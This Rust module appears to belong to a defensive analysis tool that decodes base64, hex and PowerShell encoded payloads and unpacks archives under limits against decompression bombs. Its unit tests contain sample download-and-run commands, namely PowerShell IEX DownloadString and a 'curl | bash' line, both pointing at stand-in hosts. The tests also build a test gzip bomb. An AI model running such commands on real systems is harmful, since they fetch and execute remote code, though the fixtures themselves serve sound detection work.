//! Encoded-data unpacking: find base64, hex and PowerShell
//! `-EncodedCommand` payloads in text, decode them, unpack gzip, zip and tar,
//! and recurse into what came out, within hard limits.
//!
//! The limits are the point: payloads are attacker-made, so one byte budget
//! covers every decoded and decompressed byte of an input (a table's cells
//! share one), no member may expand past `max_ratio` times its compressed
//! size or `max_member_bytes`, the whole input not past `max_ratio` times
//! its own size, and items, members per archive and depth are capped too:
//! a 1 GiB gzip bomb or a 42.zip stops after a few MiB (issue #16). Hitting
//! a limit is not an error: the result says what was cut in `warnings` and
//! sets `truncated`.

mod annotate;
mod archive;
pub(crate) mod magic;
mod scan;
mod table;

use md5::Md5;
use serde::{Deserialize, Serialize};
use sha1::Sha1;
use sha2::{Digest, Sha256};

use crate::error::{Error, Result};
use annotate::{annotation, binary_note, printable};
use scan::{find_runs, utf16le_declared, utf16le_text, utf8_text, Encoding};

pub use table::{decode_table, decoded_frame, DecodeTableResult};

/// `printable_bytes` shows at most this many bytes.
const PRINTABLE_MAX: usize = 2048;
/// `decoded_string` keeps at most this many bytes of text per item.
const DECODED_STRING_MAX: usize = 1 << 20;

/// Limits and thresholds. Plain data with defaults, shared by every surface.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(default, deny_unknown_fields)]
pub struct DecodeOptions {
    /// How deep to follow payloads inside payloads (1 = only the input's runs).
    pub max_depth: u32,
    /// Decoded plus decompressed bytes allowed for one input, all items together.
    pub max_total_bytes: u64,
    /// Members read from one zip or tar archive.
    pub max_archive_members: u32,
    /// Largest decompressed archive member (or gzip stream), in bytes.
    pub max_member_bytes: u64,
    /// Largest expansion: a member may grow to this many times its
    /// compressed size, and an input's decoded bytes to this many times the
    /// input's (never cut below 1 MiB, so small payloads are untouched).
    pub max_ratio: u32,
    /// Decoded items (rows) kept for one input, archive members included.
    pub max_items: u32,
    /// Shortest base64 run considered (MSTICPy uses 30).
    pub min_base64_len: usize,
    /// Shortest hex run considered (hash-sized runs are never decoded).
    pub min_hex_len: usize,
    /// Decode hex runs too.
    pub decode_hex: bool,
}

impl Default for DecodeOptions {
    fn default() -> DecodeOptions {
        DecodeOptions {
            max_depth: 20,
            max_total_bytes: 64 << 20,
            max_archive_members: 1000,
            max_member_bytes: 16 << 20,
            max_ratio: 100,
            max_items: 10_000,
            min_base64_len: 30,
            min_hex_len: 32,
            decode_hex: true,
        }
    }
}

impl DecodeOptions {
    /// Checks the ranges; returns an `invalid_option` error naming the field.
    pub fn validate(&self) -> Result<()> {
        if self.max_depth == 0 || self.max_depth > 100 {
            return Err(Error::option("max_depth", "must be between 1 and 100"));
        }
        if self.min_base64_len < 16 {
            return Err(Error::option("min_base64_len", "must be at least 16"));
        }
        if self.min_hex_len < 16 {
            return Err(Error::option("min_hex_len", "must be at least 16"));
        }
        if self.max_total_bytes == 0 {
            return Err(Error::option("max_total_bytes", "must be more than 0"));
        }
        if self.max_member_bytes == 0 {
            return Err(Error::option("max_member_bytes", "must be more than 0"));
        }
        if self.max_ratio == 0 {
            return Err(Error::option("max_ratio", "must be at least 1"));
        }
        if self.max_items == 0 {
            return Err(Error::option("max_items", "must be at least 1"));
        }
        Ok(())
    }
}

/// One decoded payload, with MSTICPy's column names.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, schemars::JsonSchema)]
pub struct DecodedItem {
    /// Position in the decode tree: `1`, `1.2`, `1.2.1` (1-based, per parent).
    pub reference: String,
    /// 1 for runs in the input, 2 for what those contain, and so on.
    pub depth: u32,
    /// The parent's reference, `None` at depth 1.
    pub parent: Option<String>,
    /// The encoded run as it appeared (an archive member: its path).
    pub original_string: String,
    /// The member name, for archive members.
    pub file_name: Option<String>,
    /// The file type from magic bytes (`exe`, `zip`, `gzip`, `pdf`, …); `None` for text.
    pub file_type: Option<String>,
    /// Number of decoded bytes.
    pub input_bytes: u64,
    /// The decoded bytes as text when they are text, else empty.
    pub decoded_string: String,
    /// `base64`, `utf16le_base64`, `hex`, `gzip`, `zip` or `tar`.
    pub encoding_type: String,
    /// MD5 of the decoded bytes, lower-case hex.
    pub md5: String,
    /// SHA-1 of the decoded bytes.
    pub sha1: String,
    /// SHA-256 of the decoded bytes.
    pub sha256: String,
    /// The decoded bytes, non-printable ones as `\xNN`, cut at 2 KiB.
    pub printable_bytes: String,
    /// Byte span of `original_string` in its parent text (0, 0 for members).
    pub start: usize,
    /// End of that span.
    pub end: usize,
}

/// Everything decoded from one text.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, schemars::JsonSchema)]
pub struct DecodeResult {
    /// Items in depth-first order.
    pub rows: Vec<DecodedItem>,
    /// The input with each decoded run replaced by its annotation.
    pub annotated: String,
    /// What was cut or could not be read, one sentence each.
    pub warnings: Vec<String>,
    /// True when a limit stopped decoding.
    pub truncated: bool,
}

/// Decodes every payload in `text`. Never fails: problems become warnings.
pub fn decode_text(text: &str, options: &DecodeOptions) -> DecodeResult {
    decode_shared(text, options, &mut Shared::new(options))
}

/// What the inputs of one call share: a table's cells are one input, so a
/// million cells each holding a bomb get one budget, not a million.
pub(crate) struct Shared {
    /// Bytes still allowed (`max_total_bytes` at the start).
    pub budget: u64,
    /// Items still allowed (`max_items` at the start).
    pub items: u32,
}

impl Shared {
    pub(crate) fn new(options: &DecodeOptions) -> Shared {
        Shared {
            budget: options.max_total_bytes,
            items: options.max_items,
        }
    }
}

/// [`decode_text`] drawing on `shared`'s budget and item count.
pub(crate) fn decode_shared(
    text: &str,
    options: &DecodeOptions,
    shared: &mut Shared,
) -> DecodeResult {
    // The input may expand `max_ratio` times, never below the floor.
    let by_ratio = (text.len() as u64)
        .saturating_mul(u64::from(options.max_ratio))
        .max(archive::RATIO_FLOOR);
    let (budget, limit) = if by_ratio < shared.budget {
        (by_ratio, Limit::Ratio(by_ratio))
    } else {
        (shared.budget, Limit::Total)
    };
    let mut d = Decoder {
        options,
        budget,
        limit,
        items: shared.items,
        rows: Vec::new(),
        warnings: Vec::new(),
        truncated: false,
    };
    let annotated = d.text(text, 1, None);
    shared.budget -= budget - d.budget;
    shared.items = d.items;
    DecodeResult {
        rows: d.rows,
        annotated,
        warnings: d.warnings,
        truncated: d.truncated,
    }
}

/// Which cap the decoder's byte budget is.
#[derive(Clone, Copy)]
enum Limit {
    /// `max_total_bytes` (or what a table's earlier cells left of it).
    Total,
    /// `max_ratio` times the input's size: this many bytes.
    Ratio(u64),
}

/// Where a payload came from.
struct Origin<'a> {
    original: &'a str,
    encoding: &'a str,
    file_name: Option<&'a str>,
    span: (usize, usize),
}

struct Decoder<'o> {
    options: &'o DecodeOptions,
    /// Bytes still allowed.
    budget: u64,
    /// What the budget stands for, for the warning.
    limit: Limit,
    /// Items still allowed.
    items: u32,
    rows: Vec<DecodedItem>,
    warnings: Vec<String>,
    truncated: bool,
}

impl Decoder<'_> {
    fn warn(&mut self, message: String) {
        if !self.warnings.contains(&message) {
            self.warnings.push(message);
        }
    }

    fn out_of_budget(&mut self) {
        self.truncated = true;
        let message = match self.limit {
            Limit::Total => format!(
                "decoding stopped at the {}-byte limit (max_total_bytes)",
                self.options.max_total_bytes
            ),
            Limit::Ratio(bytes) => format!(
                "decoding stopped at {bytes} bytes, {} times the input's size: a likely decompression bomb (max_ratio)",
                self.options.max_ratio
            ),
        };
        self.warn(message);
    }

    /// False (and says so) when no further item may be kept.
    fn take_item(&mut self) -> bool {
        if self.items == 0 {
            self.truncated = true;
            let max = self.options.max_items;
            self.warn(format!(
                "only the first {max} decoded items were kept (max_items)"
            ));
            return false;
        }
        self.items -= 1;
        true
    }

    fn caps(&self) -> archive::Caps {
        archive::Caps {
            budget: self.budget,
            member: self.options.max_member_bytes,
            ratio: u64::from(self.options.max_ratio),
        }
    }

    /// Says which cap cut member `reference` of a `kind` archive.
    fn cut(&mut self, cut: archive::Cut, kind: &str, reference: &str) {
        self.truncated = true;
        match cut {
            archive::Cut::Budget => self.out_of_budget(),
            archive::Cut::Member(max) => self.warn(format!(
                "item {reference}: {kind} content cut at {max} bytes (max_member_bytes)"
            )),
            archive::Cut::Ratio { compressed, limit } => self.warn(format!(
                "item {reference}: {kind} content cut at {limit} bytes, over {} times its {compressed} compressed bytes: a likely decompression bomb (max_ratio)",
                self.options.max_ratio
            )),
        }
    }

    /// Decodes the runs of `text` found at `depth`; returns `text` annotated.
    fn text(&mut self, text: &str, depth: u32, parent: Option<&str>) -> String {
        let o = self.options;
        let runs = find_runs(text, o.min_base64_len, o.min_hex_len, o.decode_hex);
        if runs.is_empty() {
            return text.to_string();
        }
        if depth > o.max_depth {
            self.truncated = true;
            self.warn(format!(
                "payloads nested deeper than {} levels were not decoded (max_depth)",
                o.max_depth
            ));
            return text.to_string();
        }
        let mut out = String::with_capacity(text.len());
        let mut last = 0;
        for (i, run) in runs.into_iter().enumerate() {
            if run.bytes.len() as u64 > self.budget {
                self.out_of_budget();
                break;
            }
            if !self.take_item() {
                break;
            }
            self.budget -= run.bytes.len() as u64;
            let reference = child_ref(parent, i + 1);
            let origin = Origin {
                original: &text[run.start..run.end],
                encoding: run.encoding.name(),
                file_name: None,
                span: (run.start, run.end),
            };
            let note = self.item(run.bytes, run.encoding, &origin, depth, parent, &reference);
            out.push_str(&text[last..run.start]);
            out.push_str(&note);
            last = run.end;
        }
        out.push_str(&text[last..]);
        out
    }

    /// Records one payload and what is inside it; returns its annotation.
    fn item(
        &mut self,
        bytes: Vec<u8>,
        encoding: Encoding,
        origin: &Origin<'_>,
        depth: u32,
        parent: Option<&str>,
        reference: &str,
    ) -> String {
        let file_type = magic::identify(&bytes);
        // A run labelled UTF-16LE was decided already (its `-enc` context,
        // or the ASCII-range evidence the scanner checked).
        let mut text = if encoding == Encoding::Utf16Base64 {
            utf16le_declared(&bytes)
        } else {
            None
        };
        if text.is_none() && file_type.is_none() {
            text = utf8_text(&bytes).or_else(|| utf16le_text(&bytes));
        }
        let mut decoded_string = text.clone().unwrap_or_default();
        if decoded_string.len() > DECODED_STRING_MAX {
            let mut cut = DECODED_STRING_MAX;
            while !decoded_string.is_char_boundary(cut) {
                cut -= 1;
            }
            decoded_string.truncate(cut);
            self.warn(format!(
                "decoded text of item {reference} was cut at 1 MiB in decoded_string"
            ));
        }
        self.rows.push(DecodedItem {
            reference: reference.to_string(),
            depth,
            parent: parent.map(str::to_string),
            original_string: origin.original.to_string(),
            file_name: origin.file_name.map(str::to_string),
            file_type: file_type.map(str::to_string),
            input_bytes: bytes.len() as u64,
            decoded_string,
            encoding_type: origin.encoding.to_string(),
            md5: hex::encode(Md5::digest(&bytes)),
            sha1: hex::encode(Sha1::digest(&bytes)),
            sha256: hex::encode(Sha256::digest(&bytes)),
            printable_bytes: printable(&bytes, PRINTABLE_MAX),
            start: origin.span.0,
            end: origin.span.1,
        });
        let inner = match (file_type, text) {
            (Some(kind @ ("gzip" | "zip" | "tar")), _) => {
                self.unpack(kind, &bytes, depth, reference)
            }
            (_, Some(text)) => self.text(&text, depth + 1, Some(reference)),
            (kind, None) => binary_note(kind, bytes.len()),
        };
        annotation(
            origin.encoding,
            origin.file_name.unwrap_or(""),
            reference,
            depth,
            &inner,
        )
    }

    /// Unpacks an archive's content as children of `reference`.
    fn unpack(&mut self, kind: &str, bytes: &[u8], depth: u32, reference: &str) -> String {
        if depth >= self.options.max_depth {
            self.truncated = true;
            self.warn(format!(
                "payloads nested deeper than {} levels were not decoded (max_depth)",
                self.options.max_depth
            ));
            return binary_note(Some(kind), bytes.len());
        }
        let max = self.options.max_archive_members;
        let caps = self.caps();
        let members = match kind {
            "gzip" => archive::gunzip(bytes, &caps).map(|u| archive::Members {
                out_of_budget: false,
                members: vec![archive::Member {
                    name: String::new(),
                    content: u,
                }],
                too_many: false,
            }),
            "zip" => archive::unzip(bytes, max, caps),
            _ => archive::untar(bytes, max, caps),
        };
        let members = match members {
            Ok(m) => m,
            Err(e) => {
                self.warn(format!("item {reference}: cannot unpack {e}"));
                return binary_note(Some(kind), bytes.len());
            }
        };
        if members.too_many {
            self.truncated = true;
            self.warn(format!(
                "item {reference}: only the first {max} archive members were read (max_archive_members)"
            ));
        }
        if members.out_of_budget {
            self.out_of_budget();
        }
        let mut notes = Vec::new();
        for (i, member) in members.members.into_iter().enumerate() {
            if !self.take_item() {
                break;
            }
            self.budget = self
                .budget
                .saturating_sub(member.content.bytes.len() as u64);
            let child = child_ref(Some(reference), i + 1);
            if let Some(cut) = member.content.cut {
                self.cut(cut, kind, &child);
            }
            let name = (!member.name.is_empty()).then_some(member.name.as_str());
            let origin = Origin {
                original: &member.name,
                encoding: kind,
                file_name: name,
                span: (0, 0),
            };
            notes.push(self.item(
                member.content.bytes,
                Encoding::Base64,
                &origin,
                depth + 1,
                Some(reference),
                &child,
            ));
        }
        notes.join("")
    }
}

fn child_ref(parent: Option<&str>, index: usize) -> String {
    match parent {
        Some(p) => format!("{p}.{index}"),
        None => index.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use base64::engine::general_purpose::STANDARD;
    use base64::Engine;

    use super::archive::tests::{gzip, tar, zip};
    use super::*;

    fn decode(text: &str) -> DecodeResult {
        decode_text(text, &DecodeOptions::default())
    }

    fn utf16(s: &str) -> Vec<u8> {
        s.encode_utf16().flat_map(u16::to_le_bytes).collect()
    }

    #[test]
    fn powershell_encoded_command() {
        let cmd = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";
        let line = format!("powershell -nop -enc {}", STANDARD.encode(utf16(cmd)));
        let r = decode(&line);
        assert_eq!(r.rows.len(), 1);
        let item = &r.rows[0];
        assert_eq!(item.decoded_string, cmd);
        assert_eq!(item.encoding_type, "utf16le_base64");
        assert_eq!((item.reference.as_str(), item.depth), ("1", 1));
        assert_eq!(
            r.annotated,
            format!("powershell -nop -enc <decoded type='utf16le_base64' name='' index='1' depth='1'>{cmd}</decoded>")
        );
        assert!(!r.truncated);
    }

    #[test]
    fn nested_base64() {
        let inner = STANDARD.encode("curl http://203.0.113.50/x.sh | bash -s");
        let outer = STANDARD.encode(format!("echo {inner} | base64 -d | sh"));
        let r = decode(&format!("run {outer}"));
        let refs: Vec<_> = r
            .rows
            .iter()
            .map(|i| (i.reference.as_str(), i.depth, i.parent.as_deref()))
            .collect();
        assert_eq!(refs, [("1", 1, None), ("1.1", 2, Some("1"))]);
        assert!(
            r.annotated
                .contains("curl http://203.0.113.50/x.sh | bash -s"),
            "{}",
            r.annotated
        );
    }

    #[test]
    fn gzip_zip_and_tar_payloads() {
        let r = decode(&STANDARD.encode(gzip(b"Invoke-WebRequest http://evil.example/p.exe")));
        let kinds: Vec<_> = r
            .rows
            .iter()
            .map(|i| (i.encoding_type.as_str(), i.file_type.as_deref()))
            .collect();
        assert_eq!(kinds, [("base64", Some("gzip")), ("gzip", None)]);
        assert_eq!(
            r.rows[1].decoded_string,
            "Invoke-WebRequest http://evil.example/p.exe"
        );

        let z = zip(&[
            ("run.ps1", b"Write-Host one two three"),
            ("notes.txt", b"four five six"),
        ]);
        let r = decode(&STANDARD.encode(z));
        let names: Vec<_> = r.rows.iter().map(|i| i.file_name.as_deref()).collect();
        assert_eq!(names, [None, Some("run.ps1"), Some("notes.txt")]);
        assert_eq!(r.rows[1].reference, "1.1");
        assert_eq!(r.rows[2].decoded_string, "four five six");

        let t = tar(&[("x.sh", b"echo pwned from tar")]);
        let r = decode(&STANDARD.encode(t));
        assert_eq!(r.rows[0].file_type.as_deref(), Some("tar"));
        assert_eq!(r.rows[1].decoded_string, "echo pwned from tar");
    }

    #[test]
    fn hashes_of_the_decoded_bytes() {
        let payload = "hello world, this is a payload of some length";
        let r = decode(&STANDARD.encode(payload));
        let i = &r.rows[0];
        assert_eq!(i.input_bytes, payload.len() as u64);
        assert_eq!(i.sha256, hex::encode(Sha256::digest(payload)));
        // the digests themselves, against published values for "hello world"
        assert_eq!(
            hex::encode(Md5::digest(b"hello world")),
            "5eb63bbbe01eeed093cb22bb8f5acdc3"
        );
        assert_eq!(
            hex::encode(Sha1::digest(b"hello world")),
            "2aae6c35c94fcfb415dbe95f408b9ce91ee846ed"
        );
        assert_eq!(
            hex::encode(Sha256::digest(b"hello world")),
            "b94d27b9934d3e08a52e52d7da7dabfac484efe37a5380ee9088f7ace2efcde9"
        );
    }

    #[test]
    fn gzip_bomb_stops_at_the_limit() {
        use std::io::{Read, Write};
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        let mut zeros = std::io::repeat(0).take(200 << 20);
        std::io::copy(&mut zeros, &mut e).unwrap();
        e.flush().unwrap();
        let bomb = e.finish().unwrap();
        assert!(bomb.len() < 1 << 20);
        let options = DecodeOptions {
            max_total_bytes: 1 << 20,
            ..Default::default()
        };
        let r = decode_text(&STANDARD.encode(&bomb), &options);
        assert!(r.truncated);
        assert!(
            r.warnings.iter().any(|w| w.contains("max_total_bytes")),
            "{:?}",
            r.warnings
        );
        assert!(r.rows.iter().all(|i| i.input_bytes <= 1 << 20));
    }

    #[test]
    fn member_and_depth_limits() {
        let many: Vec<(String, Vec<u8>)> = (0..5)
            .map(|i| (format!("f{i}.txt"), b"member text here".to_vec()))
            .collect();
        let refs: Vec<(&str, &[u8])> = many
            .iter()
            .map(|(n, d)| (n.as_str(), d.as_slice()))
            .collect();
        let options = DecodeOptions {
            max_archive_members: 2,
            ..Default::default()
        };
        let r = decode_text(&STANDARD.encode(zip(&refs)), &options);
        assert!(r.truncated);
        assert_eq!(r.rows.len(), 3);
        assert!(r.warnings[0].contains("max_archive_members"));

        let mut payload = "the innermost command line of all".to_string();
        for _ in 0..5 {
            payload = format!("echo {}", STANDARD.encode(&payload));
        }
        let options = DecodeOptions {
            max_depth: 2,
            ..Default::default()
        };
        let r = decode_text(&payload, &options);
        assert!(r.truncated);
        assert_eq!(r.rows.len(), 2);
        assert!(r.warnings[0].contains("max_depth"));
    }

    #[test]
    fn nothing_to_decode() {
        for text in [
            "",
            "plain words only",
            "d41d8cd98f00b204e9800998ecf8427e",
            "ünïcödé ✓ text",
        ] {
            let r = decode(text);
            assert!(r.rows.is_empty());
            assert_eq!(r.annotated, text);
        }
    }

    #[test]
    fn options_are_checked() {
        let bad = DecodeOptions {
            max_depth: 0,
            ..Default::default()
        };
        assert_eq!(
            bad.validate().unwrap_err().to_string(),
            "option \"max_depth\": must be between 1 and 100"
        );
        assert!(DecodeOptions::default().validate().is_ok());
    }
}
